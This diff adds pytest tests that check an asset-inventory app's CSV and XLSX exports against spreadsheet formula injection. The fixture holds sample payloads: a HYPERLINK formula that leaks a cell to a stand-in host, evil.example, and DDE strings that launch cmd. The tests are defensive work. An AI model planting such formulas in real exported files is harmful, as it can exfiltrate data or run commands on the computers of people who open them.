@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 
 import pytest
 from openpyxl import load_workbook
@@ -19,6 +20,10 @@ from tests.core.test_child_flow_service import answer_everything, good_answer
 
 def read_csv(content: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def read_csv_cells(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
 
 
 def read_xlsx(content: bytes) -> list[tuple]:
@@ -145,3 +150,144 @@ def test_export_needs_the_export_right(db, tenant, finished_flow, monkeypatch):
 def test_export_filename(db, tenant, finished_flow):
     flow = CollectionChildFlowService(db, tenant).get_by_master_flow_id(finished_flow)
     assert export_filename(flow, "gaps", "xlsx") == "wave-1-servers-gaps.xlsx"
+
+
+# Text a spreadsheet would run as a formula when it opens a CSV (OWASP, CSV Injection).
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+)
+CONTROL_STARTS = ("\t=1+1", "\r=1+1")
+PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def runnable_cells(rows: list[list[str]]) -> list[str]:
+    """Cells a spreadsheet would take for a formula: a formula character first, not a number."""
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(cell)
+    ]
+
+
+def hostile_answer(question) -> object:
+    if question["type"] == "text" and question["field_name"] != "end_of_support_date":
+        return FORMULAS[0]
+    return good_answer(question)
+
+
+@pytest.fixture
+def hostile_flow(db, tenant, make_assets):
+    """A flow to assessment over assets named like formulas, with formula-like text answers."""
+    assets = make_assets(tenant, len(FORMULAS), business_owner=None, environment=None)
+    for asset, formula in zip(assets, FORMULAS, strict=True):
+        asset.name = formula
+        asset.custom_attributes = {
+            **asset.custom_attributes,
+            "notes": CONTROL_STARTS[0],
+            "rack": CONTROL_STARTS[1],
+            "support": "Dana;=1+1",  # a new cell, a formula, where Excel splits on ";"
+        }
+    db.commit()
+    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Formulas")
+    service = CollectionChildFlowService(db, tenant)
+    selected = [str(asset.id) for asset in assets]
+    service.execute_phase(flow_id, "asset_selection", {"selected_asset_ids": selected})
+    service.execute_phase(flow_id, "gap_analysis")
+    service.execute_phase(flow_id, "questionnaire_generation")
+    answer_everything(db, tenant, flow_id, hostile_answer)
+    service.execute_phase(flow_id, "manual_collection", {"submit_for_validation": True})
+    service.execute_phase(flow_id, "data_validation")
+    return flow_id
+
+
+def test_the_gap_export_writes_formula_like_names_and_answers_as_text(db, tenant, hostile_flow):
+    rows = read_csv_cells(export_flow(db, tenant, hostile_flow, "gaps", "csv"))
+    assert runnable_cells(rows) == []
+    gaps = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert {gap["asset_name"] for gap in gaps} == {"'" + formula for formula in FORMULAS}
+    owners = [gap for gap in gaps if gap["field_name"] == "business_owner"]
+    assert owners and {gap["resolved_value"] for gap in owners} == {"'" + FORMULAS[0]}
+
+
+def test_the_questionnaire_export_writes_formula_like_answers_as_text(db, tenant, hostile_flow):
+    rows = read_csv_cells(export_flow(db, tenant, hostile_flow, "questionnaires", "csv"))
+    assert runnable_cells(rows) == []
+    answers = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert {row["questionnaire"] for row in answers} == {"'" + formula for formula in FORMULAS}
+    owners = [row for row in answers if row["field_name"] == "business_owner"]
+    assert owners and {row["answer"] for row in owners} == {"'" + FORMULAS[0]}
+
+
+def test_the_asset_export_writes_formula_like_names_and_values_as_text(db, tenant, hostile_flow):
+    content = export_flow(db, tenant, hostile_flow, "assets", "csv")
+    rows = read_csv_cells(content)
+    assert runnable_cells(rows) == []
+    assert b'"Dana;=1+1"' in content
+    assets = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert {asset["name"] for asset in assets} == {"'" + formula for formula in FORMULAS}
+    assert {(asset["notes"], asset["rack"]) for asset in assets} == {
+        ("'" + CONTROL_STARTS[0], "'" + CONTROL_STARTS[1])
+    }
+
+
+def test_formula_like_text_is_a_text_cell_that_stays_text_when_edited_in_excel(
+    db, tenant, hostile_flow
+):
+    content = export_flow(db, tenant, hostile_flow, "assets", "xlsx")
+    sheet = load_workbook(io.BytesIO(content)).active
+    names = [row[0] for row in sheet.iter_rows(min_row=2)]
+    # The text is kept exactly; Excel's own apostrophe (quotePrefix) marks it as text.
+    assert sorted(cell.value for cell in names) == sorted(FORMULAS)
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
+    assert not any(cell.quotePrefix for cell in sheet[1] if cell.value == "name")
+
+
+def test_numbers_stay_numbers(db, tenant, make_assets):
+    [asset] = make_assets(tenant, cpu_cores=4, memory_gb=2.5)
+    asset.custom_attributes = {"delta": -2.5, "offset": -3, "typed_delta": "-2.5", "sum": "-2+3"}
+    db.commit()
+    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Numbers")
+    CollectionChildFlowService(db, tenant).execute_phase(
+        flow_id, "asset_selection", {"selected_asset_ids": [str(asset.id)]}
+    )
+
+    [row] = read_csv(export_flow(db, tenant, flow_id, "assets", "csv"))
+    assert (row["cpu_cores"], row["memory_gb"]) == ("4", "2.5")
+    # A plain number, even typed as text, is a number to a spreadsheet and can run nothing.
+    assert (row["delta"], row["offset"], row["typed_delta"]) == ("-2.5", "-3", "-2.5")
+    assert row["sum"] == "'-2+3"
+
+    header, values = read_xlsx(export_flow(db, tenant, flow_id, "assets", "xlsx"))
+    cells = dict(zip(header, values, strict=True))
+    assert (cells["cpu_cores"], cells["memory_gb"], cells["delta"], cells["offset"]) == (
+        4,
+        2.5,
+        -2.5,
+        -3,
+    )
+    assert cells["sum"] == "-2+3"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_asset_export_with_formula_like_text_reimports_unchanged(db, tenant, make_assets, fmt):
+    # Leading tabs are left out: the importer trims every cell, exported or not.
+    names = (*FORMULAS, "'=already marked as text", "'an apostrophe", "-2.5")
+    assets = make_assets(tenant, len(names))
+    for asset, name in zip(assets, names, strict=True):
+        asset.name = name
+        asset.custom_attributes = {"note": name}
+    db.commit()
+    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Round trip")
+    CollectionChildFlowService(db, tenant).execute_phase(
+        flow_id, "asset_selection", {"selected_asset_ids": [str(asset.id) for asset in assets]}
+    )
+    before = snapshot_assets(db)
+
+    report = import_assets(db, tenant, export_flow(db, tenant, flow_id, "assets", fmt), f"a.{fmt}")
+
+    assert (report.created, report.updated, report.skipped) == (0, 0, [])
+    assert snapshot_assets(db) == before
